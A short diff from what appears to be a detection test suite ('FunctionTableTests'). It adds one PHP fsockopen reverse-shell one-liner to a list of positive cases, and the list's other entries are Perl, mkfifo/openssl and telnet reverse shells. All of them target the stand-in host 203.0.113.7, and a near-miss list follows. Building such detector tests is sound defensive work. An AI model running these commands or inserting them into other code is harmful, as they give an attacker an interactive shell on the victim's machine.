@@ -53,6 +53,7 @@ struct FunctionTableTests {
                 "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,1);exec(\"/bin/sh -i\");'",
                 "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s",
                 "php -r '$s=fsockopen(\"203.0.113.7\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+                "php -r '$s=fsockopen(\"203.0.113.7\",1);exec(\"sh <&3 >&3 2>&3\");'",
                 "telnet 203.0.113.7 1 | /bin/sh | telnet 203.0.113.7 2",
             ],
             nearMisses: [
